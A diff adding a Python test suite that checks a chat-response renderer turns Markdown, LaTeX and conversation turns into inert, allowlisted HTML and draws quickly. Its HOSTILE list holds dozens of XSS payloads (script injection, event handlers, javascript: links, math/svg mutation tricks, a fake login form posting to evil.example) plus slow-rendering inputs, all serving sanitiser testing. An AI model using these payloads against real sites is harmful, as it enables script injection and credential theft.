@@ -1,0 +1,531 @@
+"""Whatever a model writes can be read and does nothing."""
+
+from __future__ import annotations
+
+import re
+import time
+
+import lxml.html
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from lxml import etree
+from pygments.token import STANDARD_TYPES
+
+from workbench.contracts import rendering
+from workbench.contracts.rendering import LONGEST_MARKDOWN, render_conversation, render_text
+
+HTML_TAGS = set(
+    [
+        "div",
+        "p",
+        "br",
+        "hr",
+        "h1",
+        "h2",
+        "h3",
+        "h4",
+        "h5",
+        "h6",
+        "blockquote",
+        "ul",
+        "ol",
+        "li",
+        "pre",
+        "code",
+        "em",
+        "strong",
+        "s",
+        "table",
+        "thead",
+        "tbody",
+        "tr",
+        "th",
+        "td",
+        "span",
+        "section",
+    ]
+)
+MATH_TAGS = set(
+    [
+        "math",
+        "mrow",
+        "mstyle",
+        "mtable",
+        "mtr",
+        "mtd",
+        "msqrt",
+        "mfrac",
+        "mroot",
+        "msub",
+        "msup",
+        "munder",
+        "mover",
+        "msubsup",
+        "munderover",
+        "mi",
+        "mn",
+        "mo",
+        "mtext",
+        "mspace",
+    ]
+)
+MATH_ATTRIBUTES = set(
+    [
+        "display",
+        "accent",
+        "displaystyle",
+        "fence",
+        "movablelimits",
+        "separator",
+        "stretchy",
+        "form",
+        "linethickness",
+        "scriptlevel",
+        "lspace",
+        "rspace",
+        "minsize",
+        "maxsize",
+        "width",
+        "mathvariant",
+    ]
+)
+OWN_CLASSES = set(
+    [
+        "wb-text",
+        "rendered",
+        "source",
+        "formula",
+        "code",
+        "link",
+        "image",
+        "address",
+        "boxed",
+        "struck",
+        "align-left",
+        "align-right",
+        "align-center",
+        "wb-conversation",
+        "turn",
+        "turn-user",
+        "turn-assistant",
+        "turn-system",
+        "turn-other",
+        "role",
+    ]
+)
+CLASSES = OWN_CLASSES | {name for name in STANDARD_TYPES.values() if name}
+
+
+def parsed(html: str) -> etree._Element:
+    return lxml.html.fragment_fromstring(html, create_parent="main")
+
+
+def assert_inert(html: str) -> None:
+    for element in parsed(html).iterdescendants():
+        assert isinstance(element.tag, str), "a comment or a processing instruction"
+        assert element.tag in HTML_TAGS | MATH_TAGS, element.tag
+        for name, value in element.attrib.items():
+            if name == "class":
+                assert set(value.split()) <= CLASSES, value
+            elif name == "dir":
+                assert value in {"auto", "ltr"}
+            elif name == "start":
+                assert element.tag == "ol"
+                assert value.isdigit()
+            else:
+                assert element.tag in MATH_TAGS, (element.tag, name)
+                assert name in MATH_ATTRIBUTES, (element.tag, name)
+
+
+def rendered(text: str) -> str:
+    part = parsed(render_text(text)).find_class("rendered")[0]
+    return etree.tostring(part, encoding="unicode", method="html")
+
+
+def visible(text: str) -> str:
+    return " ".join(parsed(render_text(text)).find_class("rendered")[0].text_content().split())
+
+
+HOSTILE = [
+    "<script>parent.x=1</script>",
+    "<scr<script>ipt>x</scr</script>ipt>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    '<iframe srcdoc="<script>parent.x=1</script>"></iframe>',
+    "<iframe src=javascript:alert(1)>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="x" onerror="window.__pwned = true">',
+    "<img/src='x'/onerror=alert(1)//",
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<style>body{display:none}</style>",
+    "<style>@import '//evil.example/x.css';</style>",
+    '<form action="//evil.example"><input name=password type=password><button>Submit</button></form>',
+    "<button onclick=alert(1)>A is much better</button>",
+    "<input autofocus onfocus=alert(1)>",
+    "<textarea></textarea><select><option>1</select>",
+    '<meta http-equiv="refresh" content="0;url=//evil.example">',
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<object data=x></object><embed src=x><applet code=x>",
+    "<video src=//evil.example/x autoplay><audio src=x><source src=x>",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<div style='position:fixed;inset:0;background:red'>x</div>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='  jAvAsCrIpT\n:alert(1)'>x</a>",
+    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<p id=editor name=submit data-ready=1 contenteditable accesskey=x tabindex=0>x</p>",
+    "<!-- --!><script>alert(1)</script> -->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><?php echo 1 ?>",
+    "<!DOCTYPE html><html><head><body onload=alert(1)>",
+    "</div></div></pre></textarea></title><script>alert(1)</script>",
+    "</pre><script>alert(1)</script><pre>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
+    "<math><maction actiontype='statusline#//evil.example' xlink:href='javascript:alert(1)'>x</maction></math>",
+    "<math href='javascript:alert(1)'><mi xlink:href='javascript:alert(1)'>x</mi></math>",
+    "<math><semantics><mi>x</mi><annotation>y</annotation></semantics></math>",
+    "<svg><foreignObject><iframe srcdoc=x></foreignObject></svg>",
+    "<p title='</p><script>alert(1)</script>'>x",
+    "<div <p <script <b",
+    "<x-custom onclick=1><portal src=x>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](\\javascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](file:///etc/passwd)",
+    "[x](//evil.example)",
+    "[x](/api/v1/release)",
+    "[x](<javascript:alert(1)>)",
+    "[x][1]\n\n[1]: javascript:alert(1)",
+    "<javascript:alert(1)>",
+    "<data:text/html,x>",
+    '[x](http://e.example "onmouseover=alert(1)")',
+    '[x](http://e.example/"onmouseover="alert(1))',
+    "[a](http://e.example/<script>)",
+    "![x](http://evil.example/pixel.gif)",
+    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
+    "![x](javascript:alert(1))",
+    '![x" onerror="alert(1)](http://e.example/"onerror="alert(1))',
+    "[![x](http://evil.example/a.png)](http://evil.example)",
+    "```\n</code></pre><script>alert(1)</script>\n```",
+    '```python" onmouseover="alert(1)\nx\n```',
+    "```<script>\nx\n```",
+    "```html\n<script>alert(1)</script>\n```",
+    "`<script>alert(1)</script>`",
+    "| <script>alert(1)</script> | b |\n|:-:|-:|\n| <img src=x onerror=alert(1)> | 2 |",
+    "$\\href{javascript:alert(1)}{x}$",
+    "$\\text{<img src=x onerror=alert(1)>}$",
+    "$\\text{&lt;img src=x onerror=alert(1)&gt;}$",
+    "$\\style{position:fixed;inset:0}{x}$",
+    "$\\class{wb-answer}{x}$ $\\id{editor}{x}$",
+    "$\\unicode{x3c}script\\unicode{x3e}$",
+    "$\\color{red;background:url(//evil.example)}{x}$",
+    "$\\rule{9999em}{9999em}$ $\\hspace{-999em}x$ $\\kern-999em x$",
+    "$\\newcommand{\\a}{\\a\\a}\\a$",
+    "$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\a$",
+    "$\\require{html}\\cssId{x}{y}\\includegraphics{x}$",
+    "$<script>alert(1)</script>$",
+    "$$\n</math><script>alert(1)</script>\n$$",
+    "\\[ \\begin{array}{<script>} x \\end{array} \\]",
+    "\\(\\mathrm{<svg/onload=alert(1)>}\\)",
+    "$\\verb|<script>alert(1)</script>|$",
+    "\u202e<script>\u2066\u200b\ufeff\ue000",
+    "＜script＞alert(1)＜/script＞",
+    "\x00<scr\x00ipt>\x01\x0b\x7f",
+    "\ud800<script>\udfff",
+    "[x](http://e.example/\ud800)",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_text_is_inert_and_still_shown(text: str) -> None:
+    html = render_text(text)
+    assert_inert(html)
+    parts = parsed(html)[0]
+    assert [part.get("class") for part in parts] == ["rendered", "source"]
+    assert len(parsed(html)) == 1, "nothing may close the element that holds it"
+    html.encode()
+
+
+@pytest.mark.parametrize("html", HOSTILE)
+def test_the_wall_alone_lets_no_hostile_html_through(html: str) -> None:
+    clean = rendering._WALL.clean(html.encode(errors="replace").decode())
+    assert_inert(f"<div>{clean}</div>")
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_reading_the_html_as_a_browser_does_changes_nothing(text: str) -> None:
+    html = re.sub(
+        r"^<div[^>]*>(.*?)<pre class=\"source\".*$", r"\1", render_text(text), flags=re.DOTALL
+    )
+    assert rendering._WALL.clean(html) == html
+
+
+FRAGMENTS = [*HOSTILE, "\n", "\n\n", " ", "`", "```", "$", "$$", "|", "*", "_", "[", "](", ")", ">"]
+
+
+@given(st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=8)), max_size=12))
+@settings(max_examples=200, deadline=None)
+def test_no_mixture_of_fragments_gets_through(fragments: list[str]) -> None:
+    assert_inert(render_text("".join(fragments)))
+
+
+@given(st.text(max_size=300))
+@settings(max_examples=200, deadline=None)
+def test_the_source_is_the_text_to_the_letter(text: str) -> None:
+    source = parsed(render_text(text)).find_class("source")[0].text_content()
+    readable = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", "\ufffd", text)
+    # A parser drops the first newline of a pre element, and the renderer adds it for that.
+    assert source.removeprefix("\n") == readable.replace("\r\n", "\n").replace("\r", "\n")
+
+
+def test_raw_html_is_shown_as_text() -> None:
+    assert visible("a <b>bold</b> <script>x</script>") == "a <b>bold</b> <script>x</script>"
+
+
+def test_markdown_is_drawn() -> None:
+    html = rendered("# T\n\n**b** *e* ~~s~~ `c`\n\n- one\n\n3. three\n\n> q\n\n---\n")
+    for piece in (
+        "<h1",
+        "<strong>b</strong>",
+        "<em>e</em>",
+        "<s>s</s>",
+        "<code>c</code>",
+        "<ul>",
+        '<ol start="3">',
+        "<blockquote",
+        "<hr>",
+    ):
+        assert piece in html
+
+
+def test_lines_break_where_they_were_broken() -> None:
+    assert "roses<br>" in rendered("roses\nviolets")
+
+
+def test_tables_keep_their_alignment_by_class() -> None:
+    html = rendered("| a | b |\n|:--|--:|\n| 1 | 2 |")
+    assert '<th class="align-left" dir="auto">a</th>' in html
+    assert '<td class="align-right" dir="auto">2</td>' in html
+
+
+def test_code_is_highlighted_by_class_and_without_style() -> None:
+    html = rendered("```python\ndef f(): return 1\n```")
+    assert '<span class="k">def</span>' in html
+    assert "style=" not in html
+
+
+@pytest.mark.parametrize("language", ["", "nonsense", "PYTHON", "../../etc"])
+def test_code_in_any_language_is_shown(language: str) -> None:
+    assert visible(f"```{language}\nif a < b: pass\n```") == "if a < b: pass"
+
+
+def test_a_link_is_text_and_address() -> None:
+    assert visible("[the docs](https://a.example/b?c=1&d)") == "the docs https://a.example/b?c=1&d"
+    assert visible("<https://a.example/b>") == "https://a.example/b"
+    assert visible("<who@a.example>") == "who@a.example"
+
+
+def test_an_image_is_its_description_and_address() -> None:
+    assert visible("![a chart](https://a.example/c.png)") == "a chart https://a.example/c.png"
+
+
+def test_a_link_of_another_kind_stays_the_source_that_it_is() -> None:
+    assert visible("[x](javascript:alert(1))") == "[x](javascript:alert(1))"
+    assert visible("![x](data:image/png;base64,AA)") == "![x](data:image/png;base64,AA)"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "$x^2$",
+        "$$x^2$$",
+        "\\(x^2\\)",
+        "\\[x^2\\]",
+        "$$\nx^2\n$$",
+        "\\[\nx^2\n\\]",
+        "- \\[\n  x^2\n  \\]",
+        "> $$\n> x^2\n> $$",
+        "text\n\\[ x^2 \\]\ntext",
+        "| $x^2$ |\n|---|\n| 1 |",
+        "($x^2$), and **$x^2$**.",
+    ],
+)
+def test_latex_becomes_mathml(text: str) -> None:
+    assert "<msup><mi>x</mi><mn>2</mn></msup>" in rendered(text)
+
+
+def test_a_display_formula_is_a_block() -> None:
+    assert '<math display="block">' in rendered("$$x$$")
+    assert "display" not in rendered("$x$")
+
+
+def test_markup_within_a_formula_is_not_markdown() -> None:
+    html = rendered("$a_1 * b_2 * c_3$ and \\[ d_{*} e_{*} \\]")
+    assert "<em>" not in html
+    assert html.count("<math") == 2
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "It costs $5 and $10.",
+        "$5-$10, or US$5 to AU$10",
+        "from $3 or 4$x",
+        "pay $20/month or 10$ once",
+        "$20 bills, then 5$",
+        "a $ b $ c",
+        "\\$5 and \\$6",
+        "`$x$`",
+        "```\n$x$\n```",
+        "$$",
+        "$$$ $$$$",
+        "$",
+        "\\(",
+        "\\[ \\]",
+        "cost $5\n\nand $6",
+    ],
+)
+def test_what_is_not_a_formula_is_left_alone(text: str) -> None:
+    assert "<math" not in rendered(text)
+
+
+@pytest.mark.parametrize("number", ["$10$", "$3-2$", "$5/3$", "$2ab$", "$1,000$"])
+def test_a_formula_may_begin_with_a_number(number: str) -> None:
+    assert "<math" in rendered(number)
+
+
+@pytest.mark.parametrize(
+    "text", ["$\\frac{1$", "$\\nosuchcommand x$", "$\\phantom{x}$", "$x^a^b$", "\\(\\begin{x}\\)"]
+)
+def test_a_formula_that_cannot_be_drawn_is_shown_as_its_source(text: str) -> None:
+    assert '<code class="formula">' in rendered(text)
+    assert visible(text) == text
+
+
+@pytest.mark.parametrize(
+    ("latex", "letters"),
+    [
+        ("\\mathbb{R}", "ℝ"),
+        ("\\mathcal{L}", "ℒ"),
+        ("\\mathfrak{gH}", "𝔤ℌ"),
+        ("\\mathbf{xy}", "𝐱𝐲"),
+        ("\\boldsymbol{\\alpha}", "𝜶"),
+    ],
+)
+def test_styled_letters_are_letters(latex: str, letters: str) -> None:
+    assert visible(f"${latex}$") == letters
+
+
+def test_aligned_equations_are_a_table() -> None:
+    html = rendered("\\[\n\\begin{aligned}\na &= b \\\\\n  &= c\n\\end{aligned}\n\\]")
+    assert html.count("<mtr>") == 2
+    assert '<mtd class="align-right"><mi>a</mi></mtd>' in html
+
+
+def test_text_of_either_direction_finds_its_own() -> None:
+    blocks = parsed(render_text("שלום\n\nhello\n\n- مرحبا\n")).iter("p", "li")
+    assert {block.get("dir") for block in blocks} == {"auto"}
+
+
+def test_empty_text_has_both_forms() -> None:
+    assert [part.get("class") for part in parsed(render_text(""))[0]] == ["rendered", "source"]
+
+
+def test_a_very_long_text_is_shown_as_it_is() -> None:
+    text = "*a* <b>\n" * (LONGEST_MARKDOWN // 8 + 1)
+    html = render_text(text)
+    assert_inert(html)
+    assert "<em>" not in html
+    assert html.count("*a* &lt;b&gt;") == 2 * text.count("\n")
+
+
+def test_a_conversation_is_shown_turn_by_turn() -> None:
+    html = render_conversation(
+        [
+            {"role": "system", "content": "Be *brief*."},
+            {"role": "user", "content": "<script>x</script>"},
+            {"role": "assistant", "content": "$x$"},
+            {"role": "</h3><script>", "content": "y"},
+        ]
+    )
+    assert_inert(html)
+    turns = parsed(html).find_class("turn")
+    assert [turn.get("class") for turn in turns] == [
+        "turn turn-system",
+        "turn turn-user",
+        "turn turn-assistant",
+        "turn turn-other",
+    ]
+    assert [turn.find_class("role")[0].text_content() for turn in turns] == [
+        "System",
+        "User",
+        "Assistant",
+        "</h3><script>",
+    ]
+
+
+def seconds_to_draw(text: str, times: int = 3) -> float:
+    taken = []
+    for _ in range(times):
+        rendering.mathml_of.cache_clear()
+        started = time.perf_counter()
+        rendering._draw(text)
+        taken.append(time.perf_counter() - started)
+    return min(taken)
+
+
+SECTION = (
+    "## Heading\n\nSome **bold** text with `code` and $x_{%d}^2 + \\frac{a}{b}$ in a line of prose "
+    "that goes on for a while.\n\n- one\n- two with *emphasis*\n\n```python\ndef f(x):\n"
+    "    return [i ** 2 for i in range(x)]\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
+    "\\[ \\sum_{i=1}^{%d} i \\]\n\n"
+)
+
+
+def test_a_response_of_20_000_characters_is_drawn_while_nobody_notices() -> None:
+    text = "".join(SECTION % (number, number) for number in range(90))[:20_000]
+    prose = seconds_to_draw("word and more. " * 1_333)
+    dense = seconds_to_draw(text)
+    assert prose < 0.1
+    # 65 ms on an idle machine; the slack is for a busy one.
+    assert dense < 0.3
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "$" * 20_000,
+        "$a " * 6_666,
+        "\\(" * 10_000,
+        "\\[\n" * 6_666,
+        "\\[\n" * 6_660 + "\\] x",
+        "$$\n" * 6_666,
+        "[" * 20_000,
+        "[a](" * 5_000,
+        ">" * 20_000,
+        "- " * 10_000,
+        "**a " * 5_000,
+        "`a ``b " * 2_800,
+        "$" + "{" * 3_900 + "$",
+        "$" + "\\frac{1}{" * 400 + "x" + "}" * 400 + "$",
+        "```make\n" + "a" * 19_000 + "\n```",
+        "```python\n" + "(" * 19_000 + "\n```",
+    ],
+    ids=lambda text: text[:12],
+)
+def test_no_text_takes_long_to_draw(text: str) -> None:
+    assert_inert(render_text(text))
+    assert seconds_to_draw(text, times=1) < 2
